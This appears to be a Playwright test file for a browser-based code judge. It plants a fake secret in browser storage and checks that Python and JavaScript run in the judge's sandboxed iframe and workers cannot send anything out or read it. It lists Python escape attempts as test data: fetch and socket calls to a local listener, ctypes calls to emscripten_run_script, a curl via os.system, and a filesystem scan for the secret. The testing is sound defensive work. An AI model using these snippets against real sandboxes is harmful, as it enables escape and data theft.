import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { expect, solution, task, test as base } from '../support/judge';
import { builtFile } from '../support/judge-files';
import { attack } from './judge-escape.attack';

interface Listener {
  origin: string;
  udpPort: number;
  /** Everything that came, by whatever protocol. */
  heard: string[];
}

const secret = 'sk-planted-secret';

const test = base.extend<{ listener: Listener }>({
  // eslint-disable-next-line no-empty-pattern -- Playwright reads the names of fixtures from the pattern
  listener: async ({}, use) => {
    const heard: string[] = [];
    const server = createServer((request, response) => {
      heard.push(`${request.method} ${request.url}`);
      response.setHeader('Access-Control-Allow-Origin', '*');
      response.end('heard');
    });
    server.on('upgrade', (request, socket) => {
      heard.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    await new Promise<void>((ready) => server.listen(0, '127.0.0.1', ready));
    const udp = createSocket('udp4', () => heard.push('a datagram'));
    await new Promise<void>((ready) => udp.bind(0, '127.0.0.1', ready));
    await use({
      origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
      udpPort: udp.address().port,
      heard,
    });
    udp.close();
    server.closeAllConnections();
    server.close();
  },
});

/** Puts a key wherever a page can keep one, and listens for one that is told around. */
async function plant(page: Page): Promise<void> {
  await page.evaluate(async (secret) => {
    localStorage.setItem('key', secret);
    sessionStorage.setItem('key', secret);
    document.cookie = `key=${secret}`;
    Object.assign(window, { name: secret, told: [] });
    document.body.append(secret);
    const database = await new Promise<IDBDatabase>((resolve) => {
      const request = indexedDB.open('keys', 1);
      request.onupgradeneeded = () => request.result.createObjectStore('keys').put(secret, 'key');
      request.onsuccess = () => resolve(request.result);
    });
    database.close();
    await (await caches.open('keys')).put('/key', new Response(secret));
    const directory = await navigator.storage.getDirectory();
    const file = await (await directory.getFileHandle('key', { create: true })).createWritable();
    await file.write(secret);
    await file.close();
    new BroadcastChannel('keys').onmessage = ({ data, target }) => {
      (window as unknown as { told: unknown[] }).told.push(data);
      (target as BroadcastChannel).postMessage(secret);
    };
  }, secret);
}

/**
 * Opens the judge's own frame, as the app does, but hands in a script of an attacker's in place of the judge's: as if
 * generated code had come out of Python. Gives what it reports.
 */
async function runInFrame(page: Page, script: string): Promise<Record<string, string>> {
  return page.evaluate(
    async ({ address, script }) => {
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = address;
      await new Promise((loaded) => {
        frame.onload = loaded;
        document.body.append(frame);
      });
      const { port1, port2 } = new MessageChannel();
      const next = () =>
        new Promise<{ type: string }>((resolve) => (port1.onmessage = ({ data }) => resolve(data)));
      frame.contentWindow!.postMessage('complexitynet-judge', '*', [port2]);
      await next();
      const wasm = Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0).buffer;
      const files = { loader: '', engine: '', wasm, library: new ArrayBuffer(0) };
      port1.postMessage({ type: 'open', files, worker: script });
      const opened = await next();
      if (opened.type !== 'open') throw new Error(JSON.stringify(opened));
      const python = new MessageChannel();
      const report = new Promise<Record<string, string>>((resolve) => {
        python.port1.onmessage = ({ data }) => resolve(data as Record<string, string>);
      });
      port1.postMessage({ type: 'spawn', id: 1, port: python.port2 }, [python.port2]);
      const said = await report;
      // What it set off may still be under way.
      await new Promise((later) => setTimeout(later, 1500));
      return { ...said, place: (opened as unknown as { place: string }).place };
    },
    { address: builtFile(/^judge-frame-.*\.html$/), script },
  );
}

for (const place of ['workers', 'frame'] as const) {
  test(`JavaScript in the judge’s ${place} gets nothing out and reads nothing`, async ({
    page,
    guard,
    listener,
  }) => {
    // Each refusal is an error on the console, and some are requests that never leave the browser.
    guard.allowProblem(/./);
    guard.allowRequests(/./);
    if (place === 'frame') await page.addInitScript(() => delete (window as { Worker?: unknown }).Worker);
    await page.goto('./#/nothing-here');
    await plant(page);
    const address = page.url();
    const report = await runInFrame(
      page,
      attack(listener.origin, listener.udpPort, new URL('./', address).href),
    );

    expect(report.place).toBe(place);
    expect(Object.keys(report).length).toBeGreaterThan(20);
    expect(Object.entries(report).filter(([, said]) => said.startsWith('OPEN'))).toEqual([]);
    expect(JSON.stringify(report)).not.toContain(secret);
    expect(listener.heard).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { told: unknown[] }).told)).toEqual([]);
    expect(page.url()).toBe(address);
    expect(page.context().pages()).toHaveLength(1);
  });
}

test('Python gets nothing out and reads nothing', async ({ judgePage, page, guard, listener }) => {
  test.setTimeout(240_000);
  guard.allowProblem(/./);
  await judgePage.open();
  await plant(page);
  // What stands in the fields stands in the link, after “?”.
  const place = () => page.url().split('?')[0];
  const address = place();
  const ways = [
    `import js\njs.fetch("${listener.origin}")`,
    `from js import XMLHttpRequest\nr = XMLHttpRequest.new()\nr.open("GET", "${listener.origin}")\nr.send()`,
    `from pyodide.http import open_url\nopen_url("${listener.origin}")`,
    `import pyodide_js\npyodide_js.loadPackage("${listener.origin}/x.whl")`,
    `from pyodide.code import run_js\nrun_js("fetch('${listener.origin}')")`,
    `import urllib.request\nurllib.request.urlopen("${listener.origin}")`,
    `import http.client\nc = http.client.HTTPConnection("${listener.origin.slice(7)}")\nc.request("GET", "/")`,
    `import socket\nsocket.create_connection(("127.0.0.1", ${new URL(listener.origin).port}))`,
    `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b"x", ("127.0.0.1", ${listener.udpPort}))`,
    `import _socket\ns = _socket.socket()\ns.connect(("127.0.0.1", ${new URL(listener.origin).port}))`,
    `import asyncio\nasyncio.run(asyncio.open_connection("127.0.0.1", ${new URL(listener.origin).port}))`,
    `import webbrowser\nwebbrowser.open("${listener.origin}")`,
    `import micropip\nmicropip.install("x")`,
    `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('${listener.origin}')")`,
    `from _ctypes import dlopen, dlsym, call_function\ncall_function(dlsym(dlopen(None, 0), "emscripten_run_script"), (b"fetch('${listener.origin}')",))`,
    `import os\nassert os.system("curl ${listener.origin}") == 0`,
  ];
  for (const way of ways) {
    const judgement = await judgePage.judge(
      `def double(x):\n${way.replaceAll(/^/gm, '    ')}\n    return 2 * x\n`,
      task,
      {
        form: 'code',
      },
    );
    expect.soft(judgement.error ?? 'passed', way).toMatch(/Error|Stopped|ended/);
  }
  const files = await judgePage.judge(
    'import os\ndef double(x):\n    found = []\n    for at, _, names in os.walk("/"):\n        for name in names:\n' +
      '            try:\n                if b"planted" in open(os.path.join(at, name), "rb").read(10**6): found.append(name)\n' +
      '            except OSError: pass\n    print(found)\n    return 2 * x\n',
    { ...task, tests: [task.tests[0]] },
    { form: 'code', deadlineSeconds: 20 },
  );
  expect(files.stdout, files.error).toBe('[]\n');
  expect(listener.heard).toEqual([]);
  expect(place()).toBe(address);
  expect((await judgePage.judge(solution)).verdict).toBe('pass');
});

test('the frame’s page does nothing where it isn’t closed off', async ({ page, site, guard }) => {
  guard.allowProblem(/./);
  guard.allowRequests(/./);
  const address = new URL(builtFile(/^judge-frame-.*\.html$/), site.url).href;
  const host = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html');
    response.end('<!doctype html><title>another site</title>');
  });
  await new Promise<void>((ready) => host.listen(0, '127.0.0.1', ready));
  await page.goto(`http://127.0.0.1:${(host.address() as AddressInfo).port}/`);
  const answers = await page.evaluate(async (address) => {
    const greet = async (sandbox: string | null, byOther = false) => {
      const frame = document.createElement('iframe');
      if (sandbox !== null) frame.setAttribute('sandbox', sandbox);
      frame.src = address;
      await new Promise((loaded) => {
        frame.onload = loaded;
        document.body.append(frame);
      });
      const { port1, port2 } = new MessageChannel();
      const answer = new Promise<string>((resolve) => {
        port1.onmessage = ({ data }) => resolve(JSON.stringify(data));
        setTimeout(() => resolve('silence'), 1500);
      });
      if (byOther) {
        // From a sibling of the frame, which isn't its parent.
        const sibling = document.createElement('iframe');
        sibling.srcdoc = '<!doctype html>';
        document.body.append(sibling);
        await new Promise((loaded) => (sibling.onload = loaded));
        Object.assign(sibling.contentWindow!, { target: frame.contentWindow, port2 });
        (sibling.contentWindow as unknown as { eval(code: string): void }).eval(
          'target.postMessage("complexitynet-judge", "*", [port2])',
        );
      } else {
        frame.contentWindow!.postMessage('complexitynet-judge', '*', [port2]);
      }
      return answer;
    };
    return {
      bare: await greet(null),
      sameOrigin: await greet('allow-scripts allow-same-origin'),
      notTheParent: await greet('allow-scripts', true),
      closed: await greet('allow-scripts'),
    };
  }, address);
  expect(answers).toEqual({
    bare: 'silence',
    sameOrigin: 'silence',
    notTheParent: 'silence',
    closed: '{"type":"here"}',
  });

  await page.goto(address);
  expect(await page.evaluate(() => self.origin)).toBe(site.origin);
  host.closeAllConnections();
  host.close();
});
